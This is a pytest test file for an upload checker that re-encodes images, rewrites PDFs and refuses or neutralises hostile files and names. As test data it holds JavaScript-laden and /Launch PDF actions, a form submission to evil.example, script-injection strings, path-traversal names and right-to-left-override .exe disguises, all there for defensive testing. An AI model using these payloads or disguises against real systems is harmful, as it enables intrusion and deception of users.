"""Content checks: by content, never by name; images re-encoded, PDFs rewritten; hostile files
and names refused or neutralised. Pure functions: no database."""

import hashlib
import io

import pytest
from PIL import ExifTags, Image
from pypdf import PdfReader

from portal.documents import html_to_pdf
from portal.materials import checks
from portal.materials.checks import MaterialRejected, check_content, display_name
from tests.materials import samples

MB = 1024 * 1024
CAP = 10 * MB


def _check(data: bytes) -> checks.CheckedContent:
    return check_content(data, max_bytes=CAP)


def _refused(data: bytes) -> MaterialRejected:
    with pytest.raises(MaterialRejected) as caught:
        _check(data)
    assert caught.value.status == 422
    return caught.value


# --- accepted -------------------------------------------------------------------------------


def test_a_jpeg_is_accepted_and_re_encoded():
    original = samples.jpeg()
    checked = _check(original)
    assert checked.content_type == "image/jpeg" and checked.extension == ".jpg"
    assert checked.data.startswith(b"\xff\xd8\xff") and checked.data != original
    assert checked.upload_sha256 == hashlib.sha256(original).hexdigest()
    assert checked.sha256 == hashlib.sha256(checked.data).hexdigest() != checked.upload_sha256
    with Image.open(io.BytesIO(checked.data)) as img:
        assert img.format == "JPEG" and img.size == (64, 48)


def test_a_png_is_accepted_and_re_encoded_keeping_transparency():
    checked = _check(samples.png(mode="RGBA"))
    assert checked.content_type == "image/png"
    with Image.open(io.BytesIO(checked.data)) as img:
        assert img.format == "PNG" and img.mode == "RGBA" and img.size == (32, 32)


def test_a_palette_png_is_accepted():
    out = io.BytesIO()
    Image.new("P", (10, 10), 3).save(out, "PNG")
    with Image.open(io.BytesIO(_check(out.getvalue()).data)) as img:
        assert img.format == "PNG" and img.size == (10, 10)


def test_a_pdf_is_accepted_rewritten_and_keeps_its_text():
    original = html_to_pdf('<html lang="zh-CN"><body><h1>劳动关系证明</h1><p>张伟自2023年起在本单位工作。</p></body></html>')
    checked = _check(original)
    assert checked.content_type == "application/pdf" and checked.extension == ".pdf"
    assert checked.data.startswith(b"%PDF-")
    text = PdfReader(io.BytesIO(checked.data)).pages[0].extract_text()
    assert "劳动关系证明" in text and "张伟" in text


def test_a_multi_page_pdf_keeps_its_pages():
    assert len(PdfReader(io.BytesIO(_check(samples.pdf(pages=3)).data)).pages) == 3


# --- re-encoding strips what rides along ----------------------------------------------------


def test_exif_and_gps_are_removed_from_photos():
    original = samples.jpeg(gps=True)
    with Image.open(io.BytesIO(original)) as img:  # the sample really carries a location
        assert img.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    cleaned = _check(original).data
    with Image.open(io.BytesIO(cleaned)) as img:
        assert not img.getexif() and not img.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert "exif" not in img.info and "icc_profile" not in img.info
    assert b"Exif" not in cleaned and b"TestCam" not in cleaned


def test_exif_orientation_is_applied_before_it_is_dropped():
    # Orientation 6: the camera was turned; the viewer must rotate 90° to show it upright.
    cleaned = _check(samples.jpeg(size=(40, 20), orientation=6)).data
    with Image.open(io.BytesIO(cleaned)) as img:
        assert img.size == (20, 40)
        assert not img.getexif().get(ExifTags.Base.Orientation)


def test_png_text_chunks_are_removed():
    cleaned = _check(samples.png(text="<script>alert(1)</script>")).data
    assert b"<script>" not in cleaned and b"tEXt" not in cleaned


@pytest.mark.parametrize("tail", [samples.ZIP_TAIL, samples.HTML_TAIL], ids=["zip", "html"])
def test_a_jpeg_polyglot_comes_out_clean(tail):
    cleaned = _check(samples.jpeg() + tail).data
    assert b"PK\x03\x04" not in cleaned and b"<script" not in cleaned and b"<html" not in cleaned
    assert cleaned.rstrip(b"\x00").endswith(b"\xff\xd9")


@pytest.mark.parametrize("tail", [samples.ZIP_TAIL, samples.HTML_TAIL], ids=["zip", "html"])
def test_a_png_polyglot_comes_out_clean(tail):
    cleaned = _check(samples.png() + tail).data
    assert b"PK\x03\x04" not in cleaned and b"<script" not in cleaned


def test_jpeg_with_a_pdf_inside_is_served_as_a_plain_jpeg():
    polyglot = samples.jpeg() + samples.pdf()
    checked = _check(polyglot)
    assert checked.content_type == "image/jpeg" and b"%PDF" not in checked.data


@pytest.mark.parametrize("tail", [samples.HTML_TAIL, samples.ZIP_TAIL], ids=["html", "zip"])
def test_bytes_after_the_pdf_eof_are_dropped(tail):
    checked = _check(samples.pdf() + tail)
    assert tail not in checked.data and b"<script" not in checked.data and b"PK\x03\x04" not in checked.data
    assert len(PdfReader(io.BytesIO(checked.data)).pages) == 1


def test_unreachable_pdf_objects_are_dropped():
    # An incremental-update-style orphan object carrying a script, not referenced by anything.
    orphan = samples.raw_pdf(orphans=(b"<< /S /JavaScript /JS (app.alert(1)) >>",))
    assert b"app.alert" in orphan
    cleaned = _check(orphan).data
    assert b"app.alert" not in cleaned


# --- refused --------------------------------------------------------------------------------


@pytest.mark.parametrize("kwargs", [{"javascript": True}, {"attachment": True}, {"open_action_js": True}],
                         ids=["names-javascript", "embedded-file", "open-action-js"])
def test_pdfs_with_active_content_are_refused(kwargs):
    error = _refused(samples.pdf(**kwargs))
    assert error.message == "PDF 文件含有脚本或附件，出于安全原因不能接收，请另存为普通 PDF 后上传"
    assert error.code == "pdf_active_content"


@pytest.mark.parametrize("extra", [
    b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",  # names hidden by #xx escapes
    b"/OpenAction << /S /Launch /F (calc.exe) >>",
    b"/AcroForm << /Fields [] /XFA 4 0 R >>",
    b"/AA << /WC << /S /SubmitForm /F (http://evil.example/) >> >>",
    b"/Names << /EmbeddedFiles << /Names [] >> >>",
], ids=["escaped-js", "launch", "xfa", "submit-form", "embedded-files"])
def test_hand_written_pdfs_with_active_content_are_refused(extra):
    assert _refused(samples.raw_pdf(extra)).code == "pdf_active_content"


@pytest.mark.parametrize("extra", [
    b"/PageMode /UseNone",
    b"/OpenAction [3 0 R /Fit]",  # WPS and Word open on the first page: harmless
    b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
    b"/AA << >> /Lang (zh-CN)",
])
def test_hand_written_plain_pdfs_are_accepted(extra):
    assert _check(samples.raw_pdf(extra)).content_type == "application/pdf"


def test_an_encrypted_pdf_is_refused():
    error = _refused(samples.pdf(password="secret"))
    assert error.code == "pdf_encrypted" and "密码" in error.message


def test_an_owner_password_only_pdf_is_refused_too():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.encrypt(user_password="", owner_password="owner")
    out = io.BytesIO()
    writer.write(out)
    assert _refused(out.getvalue()).code == "pdf_encrypted"


@pytest.mark.parametrize("data", [
    b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",  # HTML renamed .pdf
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    samples.ZIP_TAIL,  # a ZIP
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff",  # a Windows executable
    samples.gif(),
    b"\n" + samples.pdf(),  # PDF header not at offset 0
    b"\xef\xbb\xbf" + samples.pdf(),  # BOM before the header
    b"<html>" + samples.pdf(),
    b"GIF89a" + samples.jpeg(),
], ids=["html", "svg", "zip", "exe", "gif", "pdf-after-newline", "pdf-after-bom", "html-then-pdf", "gif-then-jpeg"])
def test_everything_else_is_refused_by_content(data):
    error = _refused(data)
    assert error.message == "只能上传 PDF、JPG 或 PNG 文件" and error.code == "file_type_refused"


def test_an_empty_file_is_refused():
    assert _refused(b"").code == "file_empty"


@pytest.mark.parametrize("data", [
    b"%PDF-1.7\n<html><body>not a pdf</body></html>\n%%EOF",
    b"%PDF-",
    samples.pdf()[:200],
], ids=["html-with-pdf-header", "header-only", "truncated"])
def test_broken_pdfs_are_refused(data):
    assert _refused(data).code == "pdf_broken"


@pytest.mark.parametrize("data", [
    b"\xff\xd8\xff\xe0garbage",
    samples.jpeg()[:100],
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 40,
], ids=["jpeg-garbage", "jpeg-truncated", "png-garbage"])
def test_broken_images_are_refused(data):
    assert _refused(data).code == "image_broken"


def test_a_decompression_bomb_is_refused_before_decoding():
    bomb = samples.png_bomb()
    assert len(bomb) < 2000
    error = _refused(bomb)
    assert error.code == "image_too_big" and "像素过大" in error.message


def test_an_image_just_over_the_pixel_cap_is_refused(monkeypatch):
    monkeypatch.setattr(checks, "MAX_PIXELS", 64 * 48 - 1)
    assert _refused(samples.jpeg()).code == "image_too_big"


def test_size_cap_is_checked_before_parsing():
    with pytest.raises(MaterialRejected) as caught:
        check_content(b"not even a real file" * 100, max_bytes=1000)
    assert caught.value.message == "文件不能超过1KB" and caught.value.code == "file_too_large"
    with pytest.raises(MaterialRejected) as caught:
        check_content(samples.pdf() + b"\x00" * CAP, max_bytes=CAP)
    assert caught.value.message == "文件不能超过10MB" and caught.value.code == "file_too_large"


def test_file_exactly_at_the_cap_is_accepted():
    data = samples.pdf()
    assert check_content(data, max_bytes=len(data)).content_type == "application/pdf"


def test_size_labels():
    assert checks.size_label(10 * MB) == "10MB"
    assert checks.size_label(int(2.5 * MB)) == "2.5MB"
    assert checks.size_label(512 * 1024) == "512KB"


# --- names --------------------------------------------------------------------------------

PDF, JPEG, PNG = checks.PDF, checks.JPEG, checks.PNG


@pytest.mark.parametrize("name, content_type, expected", [
    ("劳动合同.pdf", PDF, "劳动合同.pdf"),
    ("../../etc/passwd", PDF, "passwd.pdf"),
    ("..\\..\\windows\\system.ini", PDF, "system.ini.pdf"),
    ("C:\\Users\\张伟\\Desktop\\诊断证明.PDF", PDF, "诊断证明.pdf"),
    ("a\x00b\x07c.pdf", PDF, "abc.pdf"),
    ("\u202egpj.exe", JPEG, "gpj.exe.jpg"),
    ("invoice\u202efdp.exe", PDF, "invoicefdp.exe.pdf"),
    ("zero\u200bwidth.png", PNG, "zerowidth.png"),
    ("CON", PDF, "_CON.pdf"),
    ("con.pdf", PDF, "_con.pdf"),
    ("LPT1.txt", PDF, "_LPT1.txt.pdf"),
    (".htaccess", PNG, "htaccess.png"),
    ("..", PDF, "身份证明.pdf"),
    ("", JPEG, "身份证明.jpg"),
    ("   ", JPEG, "身份证明.jpg"),
    ('<script>alert("x")</script>.pdf', PDF, "script_.pdf"),
    ("report.pdf", JPEG, "report.jpg"),
    ("photo.JPEG", JPEG, "photo.jpg"),
    ("scan.pdf.exe", PDF, "scan.pdf.exe.pdf"),
    ("a   b\tc\n.png", PNG, "a b c.png"),
    ("x..y...z.pdf", PDF, "x.y.z.pdf"),
    ('合同<1>"终稿"|?*.png', PNG, "合同_1__终稿____.png"),
])
def test_hostile_names_are_neutralised_for_display(name, content_type, expected):
    assert display_name(name, content_type, fallback="身份证明") == expected


def test_very_long_names_are_cut_to_120_characters_keeping_the_extension():
    name = display_name("证" * 500 + ".pdf", PDF)
    assert len(name) == 120 and name.endswith(".pdf")
    assert len(display_name("a" * 10_000, JPEG)) == 120


def test_a_name_is_none_safe():
    assert display_name(None, PNG) == "文件.png"


def test_jpeg_comments_and_icc_profiles_are_removed():
    out = io.BytesIO()
    Image.new("RGB", (50, 50), (1, 2, 3)).save(out, "JPEG", comment=b"<script>x</script>",
                                                 icc_profile=b"\x00" * 200 + b"ICC-PAYLOAD")
    assert b"<script>" in out.getvalue()
    cleaned = _check(out.getvalue()).data
    assert b"<script>" not in cleaned and b"ICC-PAYLOAD" not in cleaned


@pytest.mark.parametrize("mode", ["1", "L", "LA", "I;16", "RGB"])
def test_png_modes_survive_re_encoding(mode):
    out = io.BytesIO()
    Image.new(mode, (12, 8)).save(out, "PNG")
    with Image.open(io.BytesIO(_check(out.getvalue()).data)) as img:
        assert img.mode == mode and img.size == (12, 8)


def test_cmyk_jpegs_from_scanners_become_rgb():
    out = io.BytesIO()
    Image.new("CMYK", (20, 20), (0, 255, 255, 0)).save(out, "JPEG")
    with Image.open(io.BytesIO(_check(out.getvalue()).data)) as img:
        assert img.mode == "RGB"
